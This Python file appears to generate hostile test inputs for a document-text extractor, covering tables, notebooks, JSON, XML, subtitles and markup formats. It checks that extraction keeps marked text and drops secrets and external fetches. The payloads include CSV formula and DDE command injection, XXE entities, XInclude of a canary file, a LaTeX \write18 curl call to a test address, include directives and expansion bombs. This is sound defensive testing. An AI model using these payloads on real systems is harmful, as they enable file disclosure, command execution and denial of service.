"""Hostile tables, notebooks, JSON, XML, subtitles and texts with marks."""

import json
from collections.abc import Iterator
from pathlib import Path

import office
from hostile_case import SECRET, SEEN, Case, entities


def tables(address: str) -> Iterator[Case]:
    yield Case("table/columns.csv", b"a," * 300_000 + b"\n1,2\n")
    yield Case("table/quote.csv", b'a,b\n1,"' + b"word. \n" * 300_000)
    yield Case("table/quotes.csv", b'"' * 1_000_000)
    yield Case("table/rows.csv", b"a,b\n" * 50_000)
    yield Case("table/nul.csv", b"a,b\n1,\0\n", reason="not text")
    formulas = f'=WEBSERVICE(""{address}"")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1"
    yield Case(
        "table/formulas.csv", "\n".join(["Words,Sum", *(f'{SEEN},"{f}"' for f in formulas)]).encode(), wanted=SEEN
    )
    yield Case("table/ragged.tsv", "\n".join("\t" * (n % 700) + SEEN for n in range(700)).encode(), wanted=SEEN)


def notebooks(address: str) -> Iterator[Case]:
    good = {"cell_type": "markdown", "source": [SEEN]}

    def book(*cells: object) -> bytes:
        return json.dumps({"nbformat": 4, "cells": [good, *cells]}).encode()

    yield Case(
        "book/outputs.ipynb", book({"cell_type": "code", "source": "1", "outputs": [{"text": SECRET}]}), wanted=SEEN
    )
    yield Case(
        "book/script.ipynb",
        book({"cell_type": "markdown", "source": f"<script>{SECRET}</script>\n\n![](x)<img src='{address}/p'>"}),
        wanted=SEEN,
    )
    yield Case("book/types.ipynb", book(None, 1, [], {"source": {"a": 1}}, {"cell_type": {}, "source": [[1], None]}))
    yield Case("book/deep.ipynb", b'{"cells": ' + b"[" * 200_000, reason="no notebook")
    yield Case("book/cells.ipynb", book(*[good] * 20_000), wanted=SEEN)
    yield Case("book/brackets.ipynb", office.notebook(("markdown", "[" * 20_000)))


def objects(canary: Path, address: str) -> Iterator[Case]:
    yield Case("object/deep.json", b"[" * 500_000, reason="not JSON")
    yield Case("object/number.json", b'{"text": "words", "date": ' + b"9" * 100_000 + b"}", reason="not JSON")
    yield Case("object/surrogate.json", b'{"text": "half \\ud800 of a pair"}', reason="surrogate")
    yield Case(
        "object/names.json", b"{" + b",".join(b'"a%d":1' % n for n in range(200_000)) + b"}", reason="no article"
    )
    yield Case(
        "object/types.json",
        json.dumps([{"text": SEEN, "id": 10**30, "title": [], "url": 5}, {"text": {}}]).encode(),
        wanted=SEEN,
    )
    yield Case("object/many.json", json.dumps([{"text": "word"}] * 5_000).encode())
    dtd = entities(canary).replace("html", "doc")
    yield Case("object/entities.xml", f"{dtd}<doc><p>{SEEN}</p><p>&l9;&file;</p></doc>".encode())
    yield Case(
        "object/parameter.xml",
        f'<!DOCTYPE doc [<!ENTITY % p SYSTEM "{address}/x.dtd">%p;]><doc>{SEEN}</doc>'.encode(),
        wanted=SEEN,
    )
    yield Case("object/dtd.xml", f'<!DOCTYPE doc SYSTEM "{address}/x.dtd"><doc>{SEEN}</doc>'.encode(), wanted=SEEN)
    include = f'<xi:include href="{canary.as_uri()}" parse="text" xmlns:xi="http://www.w3.org/2001/XInclude"/>'
    sheet = f'<?xml-stylesheet href="{address}/a.xsl" type="text/xsl"?>'
    yield Case("object/include.xml", f"{sheet}<doc><p>{SEEN}</p>{include}</doc>".encode(), wanted=SEEN)
    yield Case("object/deep.xml", b"<a>" * 100_000 + b"words", reason="damaged")
    yield Case("object/depth.xml", b"<a>" * 250 + SEEN.encode() + b"</a>" * 250, wanted=SEEN)
    many = " ".join(f'a{n}="1"' for n in range(20_000))
    yield Case("object/attributes.xml", f"<doc {many}>{SEEN}</doc>".encode())
    yield Case("object/elements.xml", f"<doc>{'<p>word.</p>' * 50_000}<p>{SEEN}</p></doc>".encode(), wanted=SEEN)
    yield Case(
        "object/comments.xml", f"<doc><!-- {SECRET} --><?php {SECRET} ?><p>{SEEN}</p></doc>".encode(), wanted=SEEN
    )


def cues() -> Iterator[Case]:
    cue = "00:00:01.000 --> 00:00:04.000\n"
    yield Case("cues/many.vtt", ("WEBVTT\n\n" + f"{cue}words.\n\n" * 20_000).encode())
    yield Case("cues/arrows.srt", b"--> " * 200_000)
    yield Case("cues/digits.srt", b"1\n" + b"0" * 300_000 + b":00:00,000 --> \nwords\n")
    yield Case("cues/times.srt", b"1\n99:99:99,999 --> 00:00:00,000\n" + SEEN.encode(), wanted=SEEN)
    yield Case("cues/markup.srt", f"1\n{cue}{'<i' * 100_000}\n".encode())
    yield Case(
        "cues/styles.vtt",
        f"WEBVTT\n\nSTYLE\n::cue {{ content: '{SECRET}' }}\n\nNOTE {SECRET}\n\n{cue}{SEEN}\n".encode(),
        wanted=SEEN,
    )
    yield Case("cues/blank.srt", b"\n" * 500_000 + f"1\n{cue}{SEEN}\n".encode(), wanted=SEEN)


def marked(canary: Path, address: str) -> Iterator[Case]:
    yield Case("marked/deep.tex", ("{" * 20_000 + SEEN).encode())
    yield Case("marked/brackets.tex", (SEEN + "\\frac" * 20_000).encode())
    yield Case("marked/math.tex", (SEEN + "$" * 20_001).encode())
    yield Case("marked/environments.tex", (SEEN + "\\begin{a}" * 5_000).encode())
    yield Case("marked/headings.tex", (SEEN + "\\section{" * 20_000).encode())
    yield Case("marked/title.tex", ("\\title{" + "{a}" * 20_000 + f"\n\n{SEEN}").encode())
    yield Case(
        "marked/macros.tex", f"\\def\\a{{\\a\\a}}\\newcommand{{\\bb}}{{\\bb\\bb}}\\a \\bb {SEEN}".encode(), wanted=SEEN
    )
    yield Case(
        "marked/input.tex",
        f"{SEEN}\n\n\\input{{{canary}}}\\include{{{canary}}}\\write18{{curl {address}}}% {SECRET}\n".encode(),
        wanted=SEEN,
    )
    directives = f".. include:: {canary}\n\n.. raw:: html\n   :url: {address}/x\n\n.. csv-table::\n   :file: {canary}\n\n.. csv-table::\n   :url: {address}/t.csv\n\n.. image:: {address}/p.png\n\n.. figure:: {address}/f.png\n\n.. literalinclude:: {canary}\n"  # noqa: E501
    yield Case("marked/directives.rst", f"{SEEN}\n\n{directives}".encode(), wanted=SEEN)
    laughs = "\n".join(f".. |a{n}| replace:: {f'|a{n - 1}| ' * 10}" for n in range(1, 10))
    yield Case("marked/laughs.rst", f"{SEEN}\n\n|a9|\n\n.. |a0| replace:: lol\n{laughs}\n".encode())
    yield Case(
        "marked/circle.rst", f"{SEEN}\n\n|a|\n\n.. |a| replace:: |b|\n.. |b| replace:: |a|\n".encode(), wanted=SEEN
    )
    yield Case("marked/deep.rst", "".join(" " * n + "* a\n\n" for n in range(0, 1200, 2)).encode())
    yield Case("marked/stars.rst", b"*a **b ``c `d " * 200)
    yield Case("marked/titles.rst", b"a\n=\n" * 5_000)
    yield Case("marked/settings.rst", f".. role:: raw-x(raw)\n   :format: html\n\n:raw-x:`gone` {SEEN}\n".encode())
    yield Case(
        "marked/include.adoc", f"= Bridge\n\ninclude::{canary}[]\n\n{SEEN}\n\n// {SECRET}\n".encode(), wanted=SEEN
    )
    yield Case("marked/include.org", f"#+INCLUDE: {canary}\n# {SECRET}\n{SEEN}\n".encode(), wanted=SEEN)
    yield Case("marked/stars.org", b"*" * 300_000 + b" a :" + b"a:" * 100_000)
    yield Case("marked/equals.adoc", b"= " + b"=" * 300_000 + b"\n\nwords")
